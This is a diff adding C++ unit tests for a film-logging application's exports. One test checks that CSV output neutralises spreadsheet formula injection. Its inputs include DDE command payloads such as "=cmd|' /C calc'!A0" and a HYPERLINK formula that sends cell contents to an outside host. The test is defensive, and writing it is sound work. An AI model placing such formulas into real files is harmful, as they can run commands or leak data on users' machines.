@@ -19,6 +19,13 @@ using timecode::FrameRate;
 
 constexpr FrameRate kDropFrame{30, true};
 
+int count(const std::string& text, const std::string& what) {
+    int n = 0;
+    for (auto at = text.find(what); at != std::string::npos; at = text.find(what, at + 1))
+        ++n;
+    return n;
+}
+
 TEST(FrameCount, LabelsRoundTripThroughADayAtEveryRate) {
     for (const FrameRate rate : {FrameRate{24}, FrameRate{25}, kDropFrame, FrameRate{30}}) {
         const std::int64_t day = timecode::framesPerDay(rate);
@@ -102,6 +109,64 @@ TEST(HandoverEdl, NamesTheReelFromTheTitleAndNumbersPastNineHundredAndNinetyNine
               std::string::npos);
 }
 
+// Whatever a spreadsheet would run reads as typed; the rest is written as it is.
+TEST(HandoverCsv, CellsASpreadsheetWouldRunReadAsTyped) {
+    const std::string longRun = "-" + std::string(300, 'x');
+    for (const auto& [comment, cell] : std::initializer_list<std::pair<std::string, std::string>>{
+             {"+1 stop", R"~("=""+1 stop""")~"},
+             {"-2", R"~("=""-2""")~"},
+             {"@SUM(1)", R"~("=""@SUM(1)""")~"},
+             {"  =cmd|' /C calc'!A0", R"~("=""  =cmd|' /C calc'!A0""")~"},
+             {R"~(=HYPERLINK("http://e.example/?"&A1,"x"))~",
+              R"~("=""=HYPERLINK(""""http://e.example/?""""&A1,""""x"""")""")~"},
+             {"\t=1+1", "'\t=1+1"},
+             {"\r=1+1", "\"'\r=1+1\""},
+             {"=1+1\nnext", "\"'=1+1\nnext\""},
+             {longRun, "'" + longRun},
+             {"a=b, +c", "\"a=b, +c\""},
+             {"1+1", "1+1"}}) {
+        LogList list = logOf("32", 1);
+        list.replace(LogList::indexOf(1, kFieldComment1), comment);
+        EXPECT_NE(handover::csv(list, {}).find(",05.12.2026," + cell + ",,"), std::string::npos)
+            << comment;
+    }
+    // The pictures' names begin with the project's name, whatever the user called it.
+    LogList list = logOf("32", 1);
+    list.replace(LogList::indexOf(1, kFieldPicture), patternPicture(40));
+    handover::Options options;
+    options.title = "=cmd|' calc'!A0";
+    EXPECT_NE(handover::csv(list, options).find(R"~(,"=""=cmd|' calc'!A0_1_1.jpg""")~" "\r\n"),
+              std::string::npos);
+}
+
+// Add's blank record at the end, Insert's before take 2: no events, and the takes around them
+// follow each other on the record side; a take at midnight with a stop is one. Every other
+// file keeps them as rows.
+TEST(HandoverEdl, RecordsNobodyTimedAreNoEventsButStayRows) {
+    LogList list = logOf("32", 2);
+    LogRecord blank = record("0", "", "", {});
+    blank[kFieldStart] = "00:00:00:00";
+    blank[kFieldStop] = "";
+    list.insertRecord(2, blank);
+    list.append(blank);
+    blank[kFieldStart] = "";
+    list.append(blank);
+    blank[kFieldStart] = "00:00:00:00";
+    blank[kFieldStop] = "00:00:01:00";
+    list.append(blank);
+    const std::string edl = handover::edl(list, {});
+    EXPECT_EQ(count(edl, "* FROM CLIP NAME:"), 3) << edl;
+    EXPECT_NE(edl.find("\r\n002  AX       V     C        10:00:00:00 10:00:05:12 "
+                       "01:00:05:12 01:00:10:24\r\n* FROM CLIP NAME: 2\r\n"),
+              std::string::npos)
+        << edl;
+    EXPECT_NE(edl.find("\r\n003  AX       V     C        00:00:00:00 00:00:01:00 "
+                       "01:00:10:24 01:00:11:24\r\n"),
+              std::string::npos);
+    EXPECT_EQ(count(handover::csv(list, {}), "\r\n"), 7);
+    EXPECT_EQ(count(handover::ale(list, {}), "\tV\t"), 6);
+}
+
 // Records 1 to n, those in `pictured` with a picture (the first byte the record's position),
 // one picture that does not decode, and one comment longer than a page.
 LogList sheetLog(int records, const std::vector<int>& pictured, int bad, int longComment) {
@@ -127,6 +192,7 @@ TEST(ContactSheet, DrawsEveryRecordWithinItsPageAndNumbersThePages) {
     handover::drawContactSheet(list, options, canvas, [&](double done) {
         EXPECT_GE(done, lastProgress);
         lastProgress = done;
+        return true;
     });
     EXPECT_DOUBLE_EQ(lastProgress, 1.0);
     const int pages = canvas.page + 1;
@@ -195,6 +261,7 @@ struct Exported {
     fake::App a;
     TempFolder folder;
     Exported() {
+        a.app->awakeFromNib();
         LogList list = logOf("32", 3);
         for (const int n : {1, 2})
             list.replace(LogList::indexOf(n, kFieldPicture), patternPicture(40, n));
@@ -228,6 +295,63 @@ TEST(ExportCommands, WriteTheChosenFileAndLeaveTheLogAsItWas) {
     EXPECT_TRUE(e.a.windows.dialogs.alerts.empty());
     EXPECT_EQ(e.a.app->logStartArray.revision(), revision);
     EXPECT_EQ(e.a.app->editChangeFlag, 0);
+}
+
+// The export reads a copy of the log on a thread of its own: a take the interface logs
+// meanwhile is in the log at once, not in the file. Cancelled, it leaves no file and the old
+// one whole, and tells nothing.
+TEST(ExportCommands, TakesGoOnIntoTheLogAndACancelLeavesNoFile) {
+    Exported e;
+    int steps = 0;
+    std::vector<int> records;
+    e.a.windows.dialogs.whileWorking = [&] {
+        if (steps++ == 0)
+            e.a.receive({0xF0, 0x2C, 0x4D, 0x67, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0xF7});
+        records.push_back(e.a.app->logStartArray.recordCount());
+    };
+    e.a.windows.dialogs.savePath = e.folder.file("day.html");
+    e.a.app->exportReport();
+    EXPECT_EQ(records, (std::vector<int>{4, 4, 4, 4}));
+    EXPECT_EQ(count(fileText(e.folder.file("day.html")), "<tr id="), 3);
+
+    e.a.windows.dialogs.cancelAt = 0.5;
+    using Command = void (vexaLogging3AppDelegate::*)();
+    for (const auto& [command, name] : std::initializer_list<std::pair<Command, std::string>>{
+             {&vexaLogging3AppDelegate::exportEdl, "old.edl"},
+             {&vexaLogging3AppDelegate::exportCsv, "old.csv"},
+             {&vexaLogging3AppDelegate::exportAle, "old.ale"},
+             {&vexaLogging3AppDelegate::exportContactSheet, "old.pdf"},
+             {&vexaLogging3AppDelegate::exportReport, "old.html"}}) {
+        writeFile(e.folder.file(name), "old");
+        e.a.windows.dialogs.savePath = e.folder.file(name);
+        (e.a.app.get()->*command)();
+        EXPECT_EQ(fileText(e.folder.file(name)), "old") << name;
+    }
+    EXPECT_EQ(e.folder.entries(), 6u);
+    EXPECT_TRUE(e.a.windows.dialogs.alerts.empty());
+}
+
+// The reel or tape name is asked at the first EDL or ALE of a saved log, offering the
+// project's name, and kept for that file; an unsaved log is asked each time; no answer, no
+// file.
+TEST(ExportCommands, AskTheReelOnceForEachFile) {
+    Exported e;
+    auto& dialogs = e.a.windows.dialogs;
+    dialogs.text = "A001";
+    dialogs.savePath = e.folder.file("day.edl");
+    e.a.app->exportEdl();
+    e.a.app->exportCsv();
+    dialogs.savePath = e.folder.file("day.ale");
+    e.a.app->exportAle();
+    EXPECT_EQ(dialogs.offered, std::vector<std::string>{"Day 4"});
+    EXPECT_NE(fileText(e.folder.file("day.edl")).find("\r\n001  A001     V"), std::string::npos);
+    EXPECT_NE(fileText(e.folder.file("day.ale")).find("\tA001\t"), std::string::npos);
+    e.a.app->setPathString("");
+    dialogs.text = "";
+    dialogs.savePath = e.folder.file("new.edl");
+    e.a.app->exportEdl();
+    EXPECT_EQ(dialogs.offered, (std::vector<std::string>{"Day 4", "Untitled"}));
+    EXPECT_FALSE(std::filesystem::exists(e.folder.file("new.edl")));
 }
 
 TEST(ExportCommands, TellWhyAFileWasNotWrittenAndKeepTheOldOne) {
